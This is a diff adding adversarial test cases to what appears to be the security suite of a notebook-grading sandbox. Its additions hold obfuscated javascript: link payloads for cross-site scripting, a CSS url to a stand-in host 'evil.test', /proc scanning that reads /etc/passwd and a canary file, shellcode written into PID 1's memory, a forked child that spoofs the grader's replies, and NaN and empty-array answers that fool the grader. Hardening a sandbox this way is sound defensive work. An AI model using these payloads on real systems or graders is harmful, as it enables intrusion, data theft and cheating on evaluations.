@@ -425,3 +425,101 @@ def starts_programs(notebook: Any) -> None: ...
 def pastes_pictures_without_end(notebook: Any) -> None:
     code = "from IPython.display import Image, display\nimport matplotlib.pyplot as plt\nfor k in range(60):\n    plt.figure(figsize=(12, 12)); plt.imshow(np.random.rand(900, 900)); plt.show()\n"
     insert(notebook, "moments", code)
+
+
+# what a renderer makes an address of that the eye, or a filter, does not see
+LINKS = """[a](&#106;avascript:alert(1)) [b](&#x6A;avascript:alert(1)) [c](javascript&colon;alert(1)) [d](java&Tab;script:alert(1))
+[e](javascript\\:alert(1)) [f](data&colon;text/html,x) [g](<javascript:alert(1)>) [h](\x01javascript:alert(1)) [i][j] [k]
+
+[j]: &#106;avascript:alert(1)
+[k]:
+   <javascript:alert(1)>
+
+$\\csname href\\endcsname{javascript:alert(1)}{x}$ $\\bbox[position:fixed;background:url(http://evil.test/t)]{y}$"""
+
+
+@attack(FULL)
+def hides_addresses_in_links(notebook: Any) -> None:
+    find(notebook, "one-image").source += "\n\n" + LINKS
+    notebook.cells.append(nbformat.v4.new_markdown_cell(LINKS))
+
+
+@attack(
+    FULL,
+    code="""
+import os, socket
+seen = []
+for p in filter(str.isdigit, os.listdir("/proc")):
+    try: links = [(n, os.readlink(f"/proc/{p}/fd/{n}")) for n in os.listdir(f"/proc/{p}/fd")]
+    except OSError: continue
+    seen += [where for n, where in links if where.startswith("/") and not where.startswith(("/dev/null", "/proc"))]
+    for part in ("root", "cwd", "map_files"):
+        for file in ("etc/passwd", CANARY[1:]):
+            try: seen.append(open(f"/proc/{p}/{part}/{file}").read())
+            except OSError: pass
+    for file in ("mem", "oom_score_adj", "attr/current", "uid_map", "setgroups"):
+        if p != str(os.getpid()):
+            try: open(f"/proc/{p}/{file}", "r+b").close(); seen += [f"{p} {file}"] * (p != "1")
+            except OSError: pass
+for path in ("/proc/sysrq-trigger", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/dev/sda", "/sys/kernel/uevent_helper", "/dev/tty", "/dev/console"):
+    try: open(path, "r+b").close(); seen.append(path)
+    except OSError: pass
+for family in range(46):
+    if family not in (1, 2, 10):
+        try: socket.socket(family, socket.SOCK_RAW if family in (16, 17) else socket.SOCK_STREAM).close(); seen.append(f"socket {family}")
+        except OSError: pass
+print("WAYS", [s for s in seen if not s.endswith("oom_score_adj")])
+""",
+)
+def looks_for_other_ways_out(notebook: Any) -> None: ...
+
+
+@attack()
+def spoils_what_it_is_given(notebook: Any) -> None:
+    """Its arguments become not-a-number, and so does what it returns: equal to nothing, larger than nothing."""
+    for name in ("batch-norm", "instance-norm"):
+        answer(notebook, "for a in (x, gamma, beta): a[...] = np.nan\nreturn x", name)
+    find(notebook, "moments").source = "def moments(x, axes):\n    x[...] = np.nan\n    return x * np.nan, x[:0]"
+
+
+@attack()
+def returns_nothing_with_a_shape(notebook: Any) -> None:
+    """Empty arrays, which differ nowhere, and shapes that are larger than any memory."""
+    answer(notebook, "return np.zeros((0,) + x.shape[1:])")
+    answer(notebook, "return np.zeros((2**31, 0, 2**20))", "instance-norm")
+
+
+@attack(code="import os\nif not os.fork():\n    while True: pass")
+def leaves_a_child_that_reads_the_questions(notebook: Any) -> None:
+    """It holds the channels of all snapshots and answers what it reads there, before the snapshot does."""
+    insert(
+        notebook,
+        "moments",
+        SOCKETS
+        + "if not os.fork():\n    import time\n    mine = list(lines())\n    while True:\n        for line in mine:\n"
+        "            try:\n                raw = line.recv(1 << 16, socket.MSG_DONTWAIT)\n"
+        "                tree = json.loads(raw[12:12 + struct.unpack('!IQ', raw[:12])[0]])\n"
+        "                text = json.dumps({'id': tree['id'], 'value': None, 'changed': []}).encode()\n"
+        "                line.send(struct.pack('!IQ', len(text), 0) + text)\n"
+        "            except Exception: pass\n        time.sleep(0.001)",
+    )
+
+
+@attack(
+    FULL,
+    code="""
+import os, platform
+if platform.machine() == "x86_64":
+    try:
+        at = int(open("/proc/1/syscall").read().split()[-1], 16)
+        with open("/proc/1/mem", "r+b", buffering=0) as memory:  # forget the parent, then sleep for ever
+            memory.seek(at)
+            memory.write(bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7"))
+        if not os.fork():
+            os._exit(0) if os.fork() else os._exit(0)
+        print("TAKEN")
+    except (OSError, ValueError): pass
+""",
+)
+def takes_over_the_first_process(notebook: Any) -> None:
+    """As an ordinary user it belongs to the same user: it must end with the others all the same."""
